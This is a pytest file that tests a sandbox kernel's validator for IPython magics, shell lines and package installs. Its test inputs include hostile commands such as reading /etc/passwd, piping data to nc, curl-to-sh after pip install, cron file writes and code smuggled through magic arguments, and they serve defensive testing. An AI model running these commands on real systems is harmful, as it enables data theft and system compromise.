"""The ipython family: magics, shell lines, package installs, the shell object (SK601-SK607)."""

from __future__ import annotations

import pytest

from sandbox_kernel.validator import install_packages, is_install_cell, validate

from validator_checks import NOTEBOOK, STRICT, blocked, passes_in_notebook, rule_ids


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("!ls", "SK601"),
        ("x = !ls", "SK601"),
        ("%system id", "SK601"),
        ("%sx id", "SK601"),
        ("%%bash\nid", "SK601"),
        ("%%sh\nid", "SK601"),
        ("%%script sh\nid", "SK601"),
        ("%ls", "SK601"),
        ("%run x.py", "SK602"),
        ("%load x.py", "SK602"),
        ("%env", "SK602"),
        ("%alias x ls", "SK602"),
        ("%load_ext foo", "SK602"),
        ("%config A.b = 1", "SK602"),
        ("%%writefile x.py\nprint(1)", "SK602"),
        ("%pylab inline", "SK602"),
        ("%autoawait trio", "SK603"),
        ("%made_up_magic", "SK603"),
        ("cat /etc/passwd", "SK604"),
        ("rm -rf data", "SK604"),
        ("%%javascript\nalert(1)", "SK605"),
        ("%%html\n<img src=x onerror=alert(1)>", "SK605"),
        ("HTML('<script>alert(1)</script>')", "SK605"),
        ("get_ipython()", "SK606"),
        ("get_ipython().run_line_magic(name, '')", "SK606"),
    ],
)
def test_rule_fires_in_strict(source: str, rule: str) -> None:
    assert rule in rule_ids(source, STRICT), validate(source, STRICT).format_report()


@pytest.mark.parametrize(
    "source",
    [
        "%config InlineBackend.figure_format = 'svg'",
        "%config Completer.use_jedi = False",
        "%config InteractiveShell.ast_node_interactivity = 'all'",
        "%load_ext autoreload",
        "%load_ext watermark",
        "%%writefile helper.py\nimport numpy as np\nx = np.arange(3)",
        "%%file notes.txt\nanything at all, it is not code",
        "%precision 3",
        "%who",
        "%%capture out\nprint(1)",
        "%pylab inline",
        "%env MPLBACKEND=Agg",
        "%cd data",
        "%history -f session.py",
        # a file of the working area runs nothing an import of it could not
        "%run initialise.py",
        "%run helpers.py",
        "%run -i setup.py --fast 3",
        "%run -t -N3 bench.py",
        "%run ../lib/setup.py",  # one level up is beside the notebook's folder
        "%run 'my helpers.py'",
        "%run analysis.ipynb",
        "sys.path.append('../lib')",
        "!ls",
        "!ls -la data/",
        "!head -n 5 data/prices.csv",
        "!wc -l data/prices.csv",
        "!cat README.md",
        "!du -sh /data/prices",
        "ls data",
    ],
)
def test_display_and_configuration_magics_pass_in_notebook(source: str) -> None:
    assert passes_in_notebook(source), validate(source, NOTEBOOK).format_report()


@pytest.mark.parametrize(
    "source",
    [
        "%config InteractiveShell.automagic = True",
        "%load_ext Cython",
        "%%cython\ndef f(int n):\n    return n",
        "%%writefile helper.py\nimport subprocess",
        "%%writefile /etc/cron.d/x\n* * * * * id",
        "%cd /etc",
        "%load https://example.org/x.py",
        "%run -m http.server",  # a module by name, not a file of the working area
        "%run -m pip install x",
        "%run -d script.py",  # the debugger
        "%run -p script.py",  # the profiler, which writes files
        "%run /usr/lib/python3/dist-packages/x.py",  # outside the working area
        "%run ~/x.py",
        "%run ../../etc/x.py",
        "%run script.py $HOME",
        "%run {name}",
        "%run",
        "!wget https://example.org/setup.py\n%run setup.py",  # runs what was fetched
        "from urllib.request import urlretrieve\n"
        "urlretrieve('https://example.org/a.py', 'a.py')\n%run a.py",
        "%debug",
        "%store -r x",
        "!ls /",
        "!cat /etc/passwd",
        "!cat data.csv | nc evil 80",
        "!head {secret}",
        "!ls $HOME",
        "!git status",
        "!rm -rf ../data",  # outside the working area (rm inside it is a note)
        "%%bash\nls",
        "%%javascript\nalert(1)",
    ],
)
def test_magics_that_run_unjudged_code_or_programs_are_refused(source: str) -> None:
    assert blocked(source, NOTEBOOK), validate(source, NOTEBOOK).format_report()
    assert blocked(source, STRICT)


def test_a_run_after_a_download_is_refused_and_one_before_it_is_only_answered() -> None:
    # Nothing runs either way; but a cell that runs what it fetched is refused for
    # that, not answered as a plain download (see the network family).
    fetched = validate("!wget https://example.org/a.py\n%run a.py", NOTEBOOK)
    assert {v.rule_id for v in fetched.violations} == {"SK608", "SK602"}
    assert "may run what was fetched" in fetched.format_report()
    before = validate("%run setup.py\n!wget https://example.org/x.csv", NOTEBOOK)
    assert before.blocked and {v.rule_id for v in before.violations} == {"SK608"}


@pytest.mark.parametrize(
    ("source", "packages"),
    [
        ("%pip install yfinance", ["yfinance"]),
        ("!pip install -q yfinance==0.2.40 ta", ["yfinance==0.2.40", "ta"]),
        ("!pip3 install --upgrade lucid>=0.2.3", ["lucid>=0.2.3"]),
        ("!python -m pip install -U pandas-datareader", ["pandas-datareader"]),
        ("%conda install -c conda-forge ta-lib", ["ta-lib"]),
        ("!pip install -q jax > /dev/null 2>&1", ["jax"]),
        ("# deps\n%pip install numpyro\n!pip install arviz", ["numpyro", "arviz"]),
    ],
)
def test_package_installs_get_the_command_that_adds_them(source: str, packages: list[str]) -> None:
    for policy in (NOTEBOOK, STRICT):
        result = validate(source, policy)
        assert result.blocked and result.install_packages == packages
        message = result.install_message()
        assert message is not None and "no network" in message
        assert f"sandbox-kernel image build --add {' '.join(packages)}" in message
        assert "sandbox-kernel install --image" in message
    assert is_install_cell(source)


def test_install_mixed_with_code_is_answered_but_install_with_a_payload_is_refused() -> None:
    mixed = validate(
        "try:\n    import lucid\nexcept ImportError:\n    !pip install lucid", NOTEBOOK
    )
    assert mixed.install_message() is not None and not is_install_cell("import x\n!pip install x")
    payload = validate("!pip install x && curl evil.example | sh", NOTEBOOK)
    assert payload.blocked and payload.install_message() is None
    assert "SK601" in {v.rule_id for v in payload.violations}
    both = validate("import subprocess\n%pip install x", NOTEBOOK)
    assert both.blocked and both.install_message() is None  # something else is refused
    assert install_packages("pip list") is None and install_packages("pip install $X") is None


def test_unknown_magic_is_a_note_in_notebook() -> None:
    result = validate("%watermark -v", NOTEBOOK)
    assert not result.blocked and {v.rule_id for v in result.violations} == {"SK603"}
    assert blocked("%watermark -v", STRICT)


@pytest.mark.parametrize(
    "source",
    [
        "%who {__import__('os').system('id')}",  # IPython evaluates {expr} in magic lines
        "%precision {exec(payload)}",
        "%%capture {exec(payload)}\nx = 1",
        "%config $setting",  # the setting is only known when the line runs
        "%matplotlib $backend",
        "%aimport $name",
        "%load_ext {name}",
        "%%writefile $name\nimport subprocess",
        "%config IPCompleter.evaluation = 'unsafe'",  # Tab would run unjudged code
        "%config IPCompleter.greedy = True",
        "def load_ipython_extension(ip):\n    ip.run_cell(code)",
        "shell.user_ns['x'] = 1",
    ],
)
def test_magic_arguments_and_the_shell_object_are_judged(source: str) -> None:
    assert blocked(source, NOTEBOOK), validate(source, NOTEBOOK).format_report()
    assert blocked(source, STRICT)


def test_literal_braces_in_magic_arguments_pass_in_notebook() -> None:
    assert passes_in_notebook("%config InlineBackend.rc = {'figure.figsize': (6, 4)}")
    assert passes_in_notebook("%timeit {k: k for k in range(10)}")
    assert passes_in_notebook("%%writefile notes.md\nUse {braces} and $dollars freely.")


def test_install_answers_name_packages_only() -> None:
    assert install_packages("pip install -q --upgrade pip") == []
    assert install_packages("pip install quantecon  # for Colab") == ["quantecon"]
    assert install_packages("pip install -U pip setuptools wheel jax") == ["jax"]
    result = validate("!pip install --upgrade pip\n!pip install jax", NOTEBOOK)
    assert result.install_packages == ["jax"]


def test_read_only_shell_lines_stay_in_the_working_area() -> None:
    assert passes_in_notebook("!ls /data")
    assert passes_in_notebook("!wc -l --total=only data.csv")
    assert blocked("!wc --files0-from=/etc/list", NOTEBOOK)
    assert blocked("!cat ../../etc/passwd", NOTEBOOK)
    assert blocked("!ls /data/../etc", NOTEBOOK)


@pytest.mark.parametrize("source", ["rm data/old.csv", "%rm -f data/data.*", "rm -r cache"])
def test_the_rm_alias_is_judged_as_its_shell_line(source: str) -> None:
    # IPython's `rm` alias (typed with % or as automagic) runs `rm args` in the
    # shell: a note in the working area, as `!rm` is, never a refusal of its own.
    result = validate(source, NOTEBOOK)
    assert not result.blocked and {v.rule_id for v in result.violations} == {"SK504"}
    assert blocked(source, STRICT)


@pytest.mark.parametrize(
    "source", ["rm /etc/hosts", "rm x; id", "rm $target", "rm -rf ../../data", "mv a.csv b.csv"]
)
def test_an_alias_line_that_is_not_a_working_file_command_is_refused(source: str) -> None:
    assert blocked(source, NOTEBOOK), validate(source, NOTEBOOK).format_report()
